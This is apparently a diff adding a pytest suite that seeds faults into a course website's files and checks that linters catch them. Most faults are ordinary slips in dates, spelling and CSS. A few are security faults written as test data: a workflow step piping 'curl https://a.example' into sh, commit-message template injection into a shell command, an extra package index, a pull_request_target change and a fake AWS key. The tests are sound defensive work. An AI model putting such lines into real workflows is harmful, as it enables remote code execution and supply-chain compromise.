@@ -1,0 +1,246 @@
+"""Seeded faults that need no build of their own: each, applied alone to a copy, is found by one check."""
+
+from __future__ import annotations
+
+import json
+import re
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from tests import checks
+from tests.checks import markup
+from tests.conftest import copy_project
+from tests.test_faults import FAQ, LAB, PAGE, append, edit, remove, write
+
+COURSE, PAPER = "docs/assets/stylesheets/course.css", "docs/assets/stylesheets/print.css"
+PUBLISH, LABS = ".github/workflows/publish.yml", ".github/workflows/labs.yml"
+Change = Callable[[Path], None]
+
+
+def sub(path: str, pattern: str, new: str) -> Change:
+    """Replace what a pattern finds first."""
+
+    def change(project: Path) -> None:
+        file = project / path
+        text = file.read_text(encoding="utf-8")
+        changed = re.sub(pattern, new, text, count=1, flags=re.MULTILINE | re.DOTALL)
+        assert changed != text, f"{path} does not hold {pattern!r}; mend this fault"
+        file.write_text(changed, encoding="utf-8")
+
+    return change
+
+
+def rule(path: str, text: str) -> Change:
+    return append(path, f"\n{text}\n")
+
+
+def seed_alike(project: Path) -> None:
+    """Give the second figure of a lab the alt text of the first."""
+    path = project / LAB
+    raw = json.loads(path.read_text(encoding="utf-8"))
+    mark = "#| fig-alt: "
+    lines = [(cell, at) for cell in raw["cells"] for at, line in enumerate(cell["source"]) if line.startswith(mark)]
+    (first, at), (second, other) = lines[:2]
+    second["source"][other] = first["source"][at]
+    path.write_text(json.dumps(raw), encoding="utf-8")
+
+
+FAULTS: list[tuple[str, str, Change, list[str]]] = [
+    # Words of pages
+    ("American date", "slips", append(PAGE, "\nRead on 11/27/2026.\n"), [PAGE + ":", "'11/27/2026' is a date"]),
+    ("date in words", "slips", append(PAGE, "\nOn November 27, 2026.\n"), [PAGE + ":", "'November 27, 2026' is"]),
+    ("day to come", "slips", sub(FAQ, "^Checked 20..", "Checked 2999"), [FAQ + ":", "is still to come"]),
+    ("day of no calendar", "slips", append(FAQ, "\nRead on 2026-02-30.\n"), [FAQ + ":", "'2026-02-30' is no day"]),
+    (
+        "data checked in the future",
+        "slips",
+        sub("docs/faq/stores.yml", "^checked: 20..", "checked: 2999"),
+        ["docs/faq/stores.yml:5", "is still to come"],
+    ),
+    ("letters of two alphabets", "slips", append(PAGE, "\nA n\u0435twork.\n"), [PAGE + ":", "two alphabets"]),
+    ("address of a person", "slips", append(PAGE, "\nAsk ada@mail.com.\n"), [PAGE + ":", "'ada@mail.com'"]),
+    ("secret", "slips", append(PAGE, "\nIt is `AKIA" + 16 * "A" + "`.\n"), [PAGE + ":", "reads as a secret"]),
+    ("misspelt key", "slips", sub(PAGE, "^feature:", "feture:"), [PAGE + ":5", "'feture'"]),
+    (
+        "key that stands twice",
+        "slips",
+        sub(PAGE, "^minutes:", "title: B\nminutes:"),
+        [PAGE + ":2", "'title' stands twice"],
+    ),
+    ("page that is hidden", "slips", sub(PAGE, "^minutes:", "robots: noindex\nminutes:"), [PAGE + ":4", "'robots'"]),
+    ("minutes unlike those on home", "slips", sub(PAGE, r"^minutes: \d+", "minutes: 99"), ["docs/index.md:", "99"]),
+    ("answers out of turn", "slips", edit(PAGE, "to exercise 3", "to exercise 2"), [PAGE + ":", "where 3 is its turn"]),
+    ("exercise of no lab", "slips", edit(PAGE, "exercise 2 of the lab", "exercise 9 of the lab"), [PAGE + ":", "9"]),
+    (
+        "abbreviation that stands twice",
+        "slips",
+        append("includes/abbreviations.md", "*[SVM]: Some other machine\n"),
+        ["includes/abbreviations.md", "'SVM' stands 2 times"],
+    ),
+    (
+        "abbreviation that nobody uses",
+        "slips",
+        append("includes/abbreviations.md", "*[XYZZY]: Nothing\n"),
+        ["includes/abbreviations.md", "no page says 'XYZZY'"],
+    ),
+    (
+        "term that stands twice",
+        "slips",
+        sub("docs/glossary.md", r"^(Overfitting.*?)\n:   ", r"\1\n:   Once.\n\n\1\n:   "),
+        ["docs/glossary.md", "'Overfitting", "2 times"],
+    ),
+    ("name of a file", "slips", write("docs/lesson/New Page.md", "# New\n"), ["docs/lesson/New Page.md: name it"]),
+    ("alt text of another figure", "figures", seed_alike, [LAB, "alt text", "as well"]),
+    ("row without a cell", "markdown", append(PAGE, "\n| a | b |\n|---|---|\n| 1 |\n"), [PAGE + ":", "MD056"]),
+    ("link that says here", "markdown", append(PAGE, "\nSee [here](index.md).\n"), [PAGE + ":", "MD059"]),
+    ("American spelling", "spelling", append(PAGE, "\nThe color of it.\n"), [PAGE + ":", "color"]),
+    ("feature of another page", "template", sub(PAGE, "^feature: .*?$", "feature: data"), [PAGE, "'feature' is not"]),
+    ("answer of no day", "faq", sub(FAQ, "^Checked [^:]*", "Tried"), [FAQ + ": q", "has no line 'Checked"]),
+    # Configuration
+    (
+        "name of its own in the menu",
+        "nav",
+        edit("mkdocs.yml", "- lesson/large-datasets.md", "- Big data: lesson/large-datasets.md"),
+        ["mkdocs.yml:", "'Big data'"],
+    ),
+    (
+        "units out of order",
+        "nav",
+        sub("mkdocs.yml", r"( +- lesson/large\S+)\n( +- lesson/transfer\S+)", r"\2\n\1"),
+        ["mkdocs.yml:", "nav has transfer-learning where extra.units has large-datasets"],
+    ),
+    (
+        "snippets from other hosts",
+        "config",
+        edit("mkdocs.yml", "url_download: false", "url_download: true"),
+        ["mkdocs.yml:", "url_download' must be false"],
+    ),
+    # Styles
+    ("pale words", "contrast", sub(COURSE, "--ink-soft: #545c66", "--ink-soft: #8a929c"), [COURSE + ":", "in light"]),
+    (
+        "dark words on dark",
+        "contrast",
+        sub(COURSE, "--learnt: #4fc3c7", "--learnt: #1f5357"),
+        [COURSE + ":", "in dark"],
+    ),
+    ("colour that is none", "contrast", sub(COURSE, "--rose: #a8326b", "--rose: rosy"), [COURSE, "no colour 'rosy'"]),
+    ("misspelt variable", "names", rule(COURSE, "em {\n  color: var(--inc);\n}"), [COURSE + ":", "nothing sets --inc"]),
+    ("variable that nobody reads", "names", sub(COURSE, "  --rose:", "  --mauve: #a8326b;\n  --rose:"), ["--mauve"]),
+    ("class that nothing has", "names", rule(COURSE, ".no-such-part {\n  margin: 0;\n}"), [COURSE, "'no-such-part'"]),
+    ("no outline", "css", rule(COURSE, "a:focus-visible {\n  outline: none;\n}"), [COURSE + ":", '"outline"']),
+    ("hard colour", "css", rule(COURSE, "em {\n  color: #888;\n}"), [COURSE + ":", '"#888"']),
+    ("important", "css", rule(COURSE, "em {\n  margin: 0 !important;\n}"), [COURSE + ":", "!important"]),
+    ("forced colours", "css", rule(COURSE, "em {\n  forced-color-adjust: none;\n}"), [COURSE + ":", "forced-color"]),
+    ("letters in pixels", "css", rule(COURSE, "em {\n  font-size: 6px;\n}"), [COURSE + ":", '"px"']),
+    ("motion", "css", rule(COURSE, "em {\n  transition: all 3s;\n}"), [COURSE + ":", '"transition"']),
+    ("words that paper lacks", "css", rule(PAPER, ".md-typeset {\n  visibility: hidden;\n}"), [PAPER, '"visibility"']),
+    # Workflows, locks, documents, the host
+    ("gate left out", "steps", edit(PUBLISH, "      - run: scripts/test\n", ""), [PUBLISH, "must run scripts/test"]),
+    ("untested site", "steps", edit(PUBLISH, "    needs: test\n", ""), [PUBLISH, "'needs: test'"]),
+    ("site of a change", "steps", sub(PUBLISH, "    if: github[^\n]*\n", ""), [PUBLISH, "job 'deploy' publishes"]),
+    (
+        "foreign script",
+        "steps",
+        edit(LABS, "scripts/labs --check", "curl https://a.example | sh"),
+        [LABS + ":", "curl"],
+    ),
+    (
+        "script that is not there",
+        "steps",
+        edit(PUBLISH, "scripts/pdf", "scripts/book"),
+        [PUBLISH + ":", "scripts/book"],
+    ),
+    ("job without end", "steps", edit(LABS, "    timeout-minutes: 60\n", ""), [LABS, "'timeout-minutes'"]),
+    ("rights for others", "steps", edit(PUBLISH, "pull_request:", "pull_request_target:"), [PUBLISH + ":", "rights"]),
+    (
+        "words of others in a command",
+        "workflows",
+        edit(LABS, "scripts/labs --check", 'echo "${{ github.event.head_commit.message }}"'),
+        [LABS + ":", "template-injection"],
+    ),
+    (
+        "version without a hash",
+        "pins",
+        sub("requirements.txt", r"^(click==\S+) \\\n(?:    --hash=\S+(?: \\)?\n)+", r"\1\n"),
+        ["requirements.txt", "click==", "has no hash"],
+    ),
+    (
+        "another index",
+        "pins",
+        sub("requirements-dev.txt", r"\A", "--extra-index-url https://pypi.example\n"),
+        ["requirements-dev.txt", "--extra-index-url"],
+    ),
+    (
+        "locks that part",
+        "pins",
+        sub("requirements-dev.txt", "^click==", "click==0"),
+        ["requirements-dev.txt", "of click, requirements.txt"],
+    ),
+    (
+        "package of nobody's list",
+        "imports",
+        append("overrides/hooks/course/formulas.py", "\nimport numpy\n"),
+        ["overrides/hooks/course/formulas.py:", "imports numpy"],
+    ),
+    ("block of another name", "blocks", edit("overrides/main.html", "block header", "block haeder"), ["haeder"]),
+    (
+        "command that is not there",
+        "repository",
+        edit("README.md", "scripts/serve ", "scripts/preview "),
+        ["README.md:"],
+    ),
+    ("dead link of the readme", "repository", edit("README.md", "(LICENSE)", "(LICENCE)"), ["README.md:", "LICENCE"]),
+    ("licence of another kind", "repository", append("LICENSE", "For friends only.\n"), ["LICENSE: is not"]),
+    ("licence that is gone", "repository", remove("LICENSE-CONTENT"), ["LICENSE-CONTENT: does not name"]),
+    (
+        "page that moved to nowhere",
+        "moved",
+        edit("deploy/nginx.conf", "/labs/servers/;", "/labs/servants/;"),
+        ["deploy/nginx.conf:", "/labs/servants/"],
+    ),
+    (
+        "swallowed exception",
+        "python",
+        sub("overrides/hooks/pages.py", r"except model\.Fault as fault:\n\s+log[^\n]+", "except Exception:"),
+        ["overrides/hooks/pages.py:", "BLE001"],
+    ),
+    ("breakpoint", "python", append("overrides/hooks/pages.py", "\n\nbreakpoint()\n"), ["pages.py:", "T100"]),
+    ("word for the shell", "python", append("scripts/labs", "\nsubprocess.run('ls', shell=True)\n"), ["S602"]),
+]
+
+
+@pytest.mark.parametrize(("name", "check", "change", "says"), FAULTS, ids=[fault[0] for fault in FAULTS])
+def test_fault_is_found(name: str, check: str, change: Change, says: list[str], site: Path, tmp_path: Path) -> None:
+    project = copy_project(tmp_path / "project")
+    change(project)
+    said = checks.run(project, site, [check])
+    assert [line for line in said if all(part in line for part in says)], "\n".join(said[-25:])
+
+
+@pytest.mark.parametrize(
+    ("html", "says"),
+    [
+        ('<p onclick="alert(1)">x</p>', "<p onclick>, which the policy stops"),
+        ('<nav aria-lable="Units">x</nav>', "<nav aria-lable>, which is no attribute"),
+        ('<p style="color: red">x</p>', "<p style='color: red'>; write a rule"),
+        ('<a href="http://a.example/">x</a>', "leads to http://a.example/ by http"),
+        ("<article><p>Said so[^9].</p></article>", "a footnote that nothing defines: '[^9]'"),
+        ("<article><p>a\n&gt;&gt;&gt;&gt;&gt;&gt;&gt; main</p></article>", "a mark of a merge"),
+        ("<article><p>a\u200bb</p></article>", "a character that nobody sees"),
+        ("<article><p>At the\nthe end.</p></article>", "says 'the' twice"),
+        ('<meta name="robots" content="noindex">', "keeps search engines away"),
+        ('<meta http-equiv="refresh" content="0;url=/">', "is sent on"),
+        ('<meta name="viewport" content="width=device-width,user-scalable=no">', "keeps readers from enlarging"),
+        ("<article><!-- ask Ada --></article>", "publishes the comment 'ask Ada'"),
+    ],
+)
+def test_slip_in_markup_is_found(html: str, says: str) -> None:
+    assert [fault for _, fault in markup.page_faults(html) if says in fault]
+
+
+def test_sound_markup_has_no_slip() -> None:
+    html = '<meta name="viewport" content="width=device-width,initial-scale=1">'
+    html += '<ol style="--units: 10"><li aria-label="x">He had had that that.</li></ol><pre>the the[^9]</pre>'
+    assert list(markup.page_faults(html)) == []
